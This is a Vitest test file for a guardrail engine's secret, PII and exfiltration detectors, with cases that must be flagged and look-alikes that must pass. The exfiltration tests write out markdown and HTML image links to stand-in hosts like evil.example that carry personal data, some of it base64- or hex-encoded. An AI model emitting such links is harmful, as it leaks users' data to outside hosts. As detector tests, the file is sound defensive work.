// Secrets, structured PII and exfiltration through the engine's public API: one case per rule
// family and per look-alike the detectors must leave alone (issue 13). Token values are generated
// from a seeded generator here, not copied from any scanner's examples.
import { describe, expect, it } from 'vitest';
import { createGuardrailEngine } from '../src/index.js';
import { agentInput, agentResponse, toolCall } from './helpers.js';

// xorshift32: the same "random" token bodies on every run.
let seed = 0x9e3779b9;
function rand(): number {
  seed ^= seed << 13;
  seed ^= seed >>> 17;
  seed ^= seed << 5;
  return (seed >>> 0) / 0x100000000;
}
function body(n: number, alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'): string {
  let s = '';
  for (let i = 0; i < n; i++) s += alphabet[Math.floor(rand() * alphabet.length)];
  return s;
}
const hex = (n: number) => body(n, '0123456789abcdef');
const base32 = (n: number) => body(n, 'QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L');

const engine = createGuardrailEngine();
// PII is ALLOWed in inputs by default; this engine redacts it so findings show.
const piiEngine = createGuardrailEngine({ policy: { pii: { agent_input: 'MODIFY' }, injection: { agent_input: 'ALLOW' } } });

function secretFindings(text: string): string[] {
  const res = engine.validateSync(agentResponse(text));
  return (res.findings ?? []).filter((f) => f.detector === 'secrets').map((f) => f.type);
}
function piiFindings(text: string): string[] {
  const res = piiEngine.validateSync(agentInput(text));
  return (res.findings ?? []).filter((f) => f.detector === 'pii').map((f) => f.type);
}

describe('secrets: provider families (gitleaks-derived)', () => {
  const cases: [string, string, string][] = [
    ['adobe-client-secret', 'p8e-' + body(32), 'adobe-client-secret'],
    ['age-secret-key', 'AGE-SECRET-KEY-1' + base32(58), 'age-secret-key'],
    ['alibaba-access-key-id', 'LTAI' + body(20), 'alibaba-access-key-id'],
    ['digitalocean-token', 'dop_v1_' + hex(64), 'digitalocean-token'],
    ['dynatrace-token', 'dt0c01.' + body(24) + '.' + body(64), 'dynatrace-token'],
    ['easypost-token', 'EZAK' + body(54), 'easypost-token'],
    ['google-oauth-client-secret', 'GOCSPX-' + body(28), 'google-oauth-client-secret'],
    ['new-relic-key', 'NRAK-' + body(27).toUpperCase(), 'new-relic-key'],
    ['perplexity-api-key', 'pplx-' + body(48), 'perplexity-api-key'],
    ['planetscale-token', 'pscale_tkn_' + body(40), 'planetscale-token'],
    ['postman-api-key', 'PMAK-' + hex(24) + '-' + hex(34), 'postman-api-key'],
    ['prefect-api-key', 'pnu_' + body(36), 'prefect-api-key'],
    ['readme-api-key', 'rdme_' + body(70, 'abcdefghijklmnopqrstuvwxyz0123456789'), 'readme-api-key'],
    ['rubygems-api-key', 'rubygems_' + hex(48), 'rubygems-api-key'],
    ['sendinblue-api-key', 'xkeysib-' + hex(64) + '-' + body(16), 'sendinblue-api-key'],
    ['shippo-token', 'shippo_live_' + hex(40), 'shippo-token'],
    ['sonarqube-token', 'squ_' + hex(40), 'sonarqube-token'],
    ['tavily-key', 'tvly-' + body(32), 'tavily-key'],
    ['telegram-bot-token', `${Math.floor(1e9 + rand() * 8e9)}:AA${body(33)}`, 'telegram-bot-token'],
    ['password-hash (bcrypt)', '$2b$12$' + body(53, './ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789'), 'password-hash'],
    ['aws-session-token', 'FwoGZXIvYXdzE' + body(120), 'aws-session-token'],
    ['teamcity-token', 'eyJ0eXAiOiAiVENWMiJ9.' + body(36) + '.' + body(40), 'teamcity-token'],
    ['twitch-stream-key', `live_${Math.floor(1e8 + rand() * 8e8)}_${body(30)}`, ''],
    ['azure-devops-pat', `AZURE_DEVOPS_PAT=${body(52, 'abcdefghijklmnopqrstuvwxyz234567')}`, ''],
    ['gradle-credentials', 'credentials {\n  username "ci"\n  password "' + body(12) + '"\n}', 'gradle-credentials'],
    ['vendor keyword (twitch)', `TWITCH_CLIENT_SECRET = "${body(30, 'abcdefghijklmnopqrstuvwxyz0123456789')}"`, 'vendor-key-assignment'],
  ];
  // '' = overlapping rules may report it under another rule id; it must be found either way.
  it.each(cases)('%s is a secret', (_name, value, rule) => {
    const found = secretFindings(`config: ${value}\n`);
    if (rule) expect(found).toContain(rule);
    else expect(found).not.toEqual([]);
  });
});

describe('secrets: connection strings and password assignments', () => {
  const pw = () => body(6) + '7' + body(3);
  it.each([
    ['postgres URI', () => `DATABASE_URL=postgres://app:${pw()}@db.internal:5432/app`],
    ['mongodb+srv URI', () => `mongodb+srv://reporter:${pw()}@cluster0.abcd.mongodb.net/test`],
    ['a URI to localhost still leaks the password', () => `postgres://admin:${pw()}@localhost:5432/dev`],
    ['JDBC query parameters', () => `jdbc:mysql://db.example.com:3306/shop?user=shop&password=${pw()}`],
    ['JDBC sqlserver properties', () => `jdbc:sqlserver://sql01;databaseName=hr;user=sa;password=${pw()}`],
    ['ADO.NET', () => `Server=tcp:prod.database.windows.net,1433;Database=hr;User Id=hradmin;Password=${pw()};`],
    ['ODBC uid/pwd', () => `Data Source=db01;Initial Catalog=crm;uid=crm;pwd=${pw()};`],
    ['quoted password of words and a digit', () => 'db_password = "tiger7horse"'],
    ['yaml password with a symbol', () => "PASSWORD: 'Summer2024!'"],
    ['netrc', () => `machine api.example.com login deploy password ${pw()}`],
    ['an XML element', () => `<config>\n  <db_password>${pw()}</db_password>\n</config>`],
    ['a .env line', () => `HOST=db\nDB_PASSWORD=${pw()}\nPORT=5432`],
    ['a YAML line', () => `database:\n  password: ${pw()}\n`],
    ['mysql -p with the password attached', () => `mysql -u root -p${pw()} shop`],
    ['sshpass -p', () => `sshpass -p "${pw()}" ssh deploy@10.0.0.5`],
    ['docker login -p', () => `docker login -u ci -p ${pw()} registry.internal`],
    ['--password=', () => `./deploy.sh --user ci --password=${pw()}`],
    ['a URI with an empty user', () => `redis://:${pw()}@cache.internal:6379/0`],
    ['.NET NetworkCredential', () => `var cred = new NetworkCredential("svc_report", "${pw()}", "CORP");`],
    ['.NET DirectoryEntry', () => `new DirectoryEntry("LDAP://dc01/DC=corp", "admin", "${pw()}")`],
    ['a bare Key= in a log line', () => `[DEBUG] Using Key=${body(32)}7`],
    ['a key given in prose', () => `Your API key is ${hex(31)}a9, keep it safe.`],
    ['a camelCase Go variable', () => `stripeKey := "${body(30)}4"`],
    [
      'an Azure storage account key in YAML',
      () =>
        `storageAccountName: store1\nstorageAccountKey: ${body(86, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/')}==`,
    ],
    ['docker config auth', () => `{"auths":{"registry.example.com":{"auth":"${Buffer.from(`deploy:${pw()}`).toString('base64')}"}}}`],
  ])('%s is a secret', (_name, make) => {
    expect(secretFindings(make())).not.toEqual([]);
  });

  it.each([
    ['password=changeme', 'password=changeme'],
    ['an angle-bracket placeholder', 'password: <your-password>'],
    ['x-run', 'api_key = "xxxxxxxxxxxxxxxxxxxx"'],
    ['an environment reference', 'token: ${GITHUB_TOKEN}'],
    ['user:password in a URI', 'postgres://user:password@localhost:5432/db'],
    ['variables in a URI', 'postgres://${DB_USER}:${DB_PASS}@db:5432/app'],
    ['a placeholder in a connection string', 'Server=db;Database=x;User Id=sa;Password=<password>;'],
    ['a braced placeholder in a connection string', 'Server=db;Database=x;User Id=sa;Password={your_password};'],
    ['a label', 'password_label = "Enter your password"'],
    ['a field name', 'passwordField = "userPassword"'],
    ['a call', 'const password = getPassword();'],
    ['an enum value named passport', 'US_PASSPORT = "US_PASSPORT"'],
    ['an environment lookup', 'password: process.env.DB_PASSWORD'],
    ['Password= without a connection string around it', 'Set Password=Hunter2x in the form.'],
    ['a reference on a config line', '  pwd: args.logicalCwd'],
    ['an XML element holding a variable', '<password>${DB_PASSWORD}</password>'],
    ['an XML element named like a field', '<password_hint>first pet</password_hint>'],
    ['a YAML line with a boolean', 'require_password: true'],
    ['a stand-in word with digits', 'password = "password123"'],
    ['not-set', 'password: "not-set"'],
    ['a repeated unit', 'api_key = "1234567890abcdef1234567890abcdef"'],
    ['a repeated unit behind a provider prefix', 'sk_live_' + '0a1b'.repeat(8)],
    ['a publishable key', 'publishable_key: pk_test_' + 'TYooMQauvdEDq54NiTphI7jx'],
    ['mysql -p alone prompts for the password', 'mysql -u root -p shop'],
    ['a .NET credential built from variables', 'new NetworkCredential(user, password)'],
    ['a DirectoryEntry path and user only', 'new DirectoryEntry("LDAP://dc01", "admin")'],
    ['a translation key', 'key: "settings.profile.title"'],
    ['a word ending in key', 'monkey = "Cheeky4Monkey9Business12"'],
    ['a cache key built from ids', 'cacheKey = "user-1234-profile-v2-en"'],
    ['a key naming a constant', 'key: "STRIPE_SECRET_KEY_PRODUCTION_2"'],
    ['a public key name', 'publicKey := "' + body(30) + '7"'],
  ])('%s is not a secret', (_name, text) => {
    expect(secretFindings(text)).toEqual([]);
  });
});

describe('PII: payment cards need card evidence beyond Luhn', () => {
  it.each([
    ['a 4-4-4-4 Visa', 'Card: 4111 1111 1111 1111 exp 12/26'],
    ['an ungrouped Visa', 'charge it to 4111111111111111'],
    ['card words with a dashed number', 'use visa 4012-8888-8888-1881'],
    ['Amex 4-6-5', 'amex 3782 822463 10005'],
    ['a brand outside the table with card words', 'my card 060426070011 was declined'],
  ])('%s is a card', (_name, text) => {
    expect(piiFindings(text)).toContain('CREDIT_CARD');
  });
  it.each([
    ['an ISBN-13', 'ISBN 9780306406157'],
    ['a hyphenated ISBN', 'ISBN 978-0-306-40615-7'],
    ['an order number that passes Luhn', 'Order #4111111111111111 shipped'],
    ['an invoice number that passes Luhn', 'Invoice 5555555555554444 paid'],
    ['a Luhn-valid number grouped 3-3-3-3-4', 'ref 411-111-111-111-1111'],
    ['a Luhn-valid number with no brand', 'batch 9999999999999995'],
  ])('%s is not a card', (_name, text) => {
    expect(piiFindings(text)).not.toContain('CREDIT_CARD');
  });
});

describe('PII: phones (national and international) and their look-alikes', () => {
  it.each([
    ['UK international', 'Call me at +44 20 7946 0958 tomorrow'],
    ['German mobile', 'Mobile: +49 151 23456789'],
    ['French national pairs', 'Appelez le 06 12 34 56 78'],
    ['Indian grouping', '+91 98765 43210'],
    ['UK national', 'ring 07700 900123'],
    ['Chinese mobile, E.164', '+8613812345678'],
    ['US with parentheses', '(202) 555-0147'],
    ['a bare run with phone words', 'phone number 4155550132'],
    ['a short national number with phone words', 'My mobile: 71234567'],
    ['a bare run after "my number is"', 'my number is 4258829090'],
    ['German area code and slash', 'Tel. 030/1234567'],
    ['country code, dots after a space', '+1 510.555.4567'],
  ])('%s is a phone', (_name, text) => {
    expect(piiFindings(text)).toContain('PHONE_NUMBER');
  });
  it.each([
    ['a four-part version', 'Upgrade to version 10.2.3.4 today'],
    ['a date and time', 'released 2023-10-12 at 10:30'],
    ['dates', 'dates 12/10/2023 and 2023.10.12'],
    ['runtime versions', 'node 20.11.1 and python 3.12.1'],
    ['a year range', 'Copyright (c) 2011-2017 the authors'],
    ['a byte dump', 'Prints: <Buffer 01 02 03 04 05 06 07 08>'],
    ['a bare counter', 'heap_size_limit: 1535115264,'],
    ['a postal code', 'ZIP: 75534-030'],
    ['a count with thousands separators', 'Population grew from 1 234 567 to 1 345 678.'],
    ['an ABA routing number in MICR grouping', 'ABA: 0210-0002-1'],
    ['a season with a slash', 'the 2021/2022 season'],
    ['a short ratio after a trunk-0 group', 'ratio 030/1234'],
    ['a MAC address in Cisco notation', 'mac 0014.2201.2345'],
  ])('%s is not a phone', (_name, text) => {
    expect(piiFindings(text)).not.toContain('PHONE_NUMBER');
  });
  it.each([['fe80::1ff:fe23:4567:890a'], ['2001:db8::ff00:42:8329'], ['::ffff:192.0.2.128']])(
    'compressed IPv6 %s is an IP address',
    (ip) => {
      expect(piiFindings(`client ${ip} connected`)).toContain('IP_ADDRESS');
    },
  );
  it('nine bare digits are an SSN only after SSN words', () => {
    expect(piiFindings('ssn: 536228741')).toContain('US_SSN');
    expect(piiFindings('routing number 021000021')).toEqual([]);
    expect(piiFindings('batch 536228741 done')).toEqual([]);
  });
  it('a clock time is not an IPv6 address', () => {
    expect(piiFindings('the job ran at 12:30:45 today')).toEqual([]);
  });
});

describe('exfiltration: image URLs that carry words are blocked; badges are not', () => {
  it.each([
    ['words in the query', '![x](https://host.example/p.png?user=jane&q=quarterly+revenue)'],
    ['a name parameter', '![x](https://host.example/p.png?name=jane)'],
    ['words under q, which also means quality', '![x](https://host.example/p.png?q=quarterly+revenue)'],
    ['percent-encoded sentence', '![c](https://evil.example/c.gif?d=salary%20of%20jane%20is%2090k)'],
    ['words in the path', '![x](https://collect.example/p/quarterly%20revenue%20numbers.png)'],
    ['an HTML image', '<img src="https://t.example/i.gif?note=meeting+with+acme">'],
    ['a full reference-style image', '![logo][1]\n\n[1]: https://evil.example/p.png?d=jane+salary+90k'],
    ['a collapsed reference-style image', '![x][]\n[x]: https://evil.example/x.gif?msg=password+is+tiger'],
    ['a shortcut reference-style image', '![Chart]\n\n[chart]: <https://evil.example/c.png?q=quarterly+revenue> "Chart"'],
    [
      'base64 text as an HTML image file name',
      `<img src="https://evil.example/px/${Buffer.from('john.doe@example.com salary 90000').toString('base64')}.png">`,
    ],
    ['hex text in an image query', `![a](https://evil.example/a.png?d=${Buffer.from('john.doe@example.com').toString('hex')})`],
  ])('%s: BLOCK', (_name, text) => {
    const res = engine.validateSync(agentResponse(`Here you go. ${text}`));
    expect(res.decision).toBe('BLOCK');
    expect(res.reason_code).toBe('EXFILTRATION_LINK');
  });
  it.each([
    ['a shields.io badge', '![build](https://img.shields.io/badge/build-passing-green.svg)'],
    ['a badge with style parameters', '![npm](https://img.shields.io/npm/v/express.svg?style=flat-square&logo=npm)'],
    ['a badge label with a space', '![cov](https://img.shields.io/badge/coverage-92%25-green?label=test%20coverage)'],
    ['a plain logo', '![logo](https://example.com/logo.png)'],
    ['resize parameters', '![p](https://cdn.example.com/a.jpg?w=640&q=75&fit=crop)'],
    ['a plain link with a search query', '[docs](https://docs.example.com/search?q=rate+limits)'],
    ['a reference-style badge', '![build][b]\n[b]: https://img.shields.io/badge/build-passing-green.svg'],
    ['an HTML badge', '<img src="https://img.shields.io/npm/v/express.svg?style=flat-square">'],
    ['a digest in an avatar URL', '![avatar](https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=80)'],
    ['a content-hashed asset', '![p](https://cdn.example.com/assets/main.3f9a8c7d6e5b4a3f2e1d0c9b8a7f6e5d.png)'],
  ])('%s: ALLOW', (_name, text) => {
    expect(engine.validateSync(agentResponse(`See ${text}`)).decision).toBe('ALLOW');
  });
  it('an allowed domain may receive data', () => {
    const e = createGuardrailEngine({ policy: { exfiltration: { allowed_domains: ['host.example'] } } });
    expect(e.validateSync(agentResponse('![x](https://host.example/p.png?user=jane&q=quarterly+revenue)')).decision).toBe('ALLOW');
  });
});

describe('findings never echo the value', () => {
  it('a connection-string password is redacted in a tool call and absent from the message', () => {
    const secret = body(8) + '9Q';
    const res = engine.validateSync(toolCall('run_sql', { dsn: `Server=db;Database=x;User Id=sa;Password=${secret};` }));
    expect(res.decision).toBe('BLOCK');
    expect(JSON.stringify(res)).not.toContain(secret);
  });
});
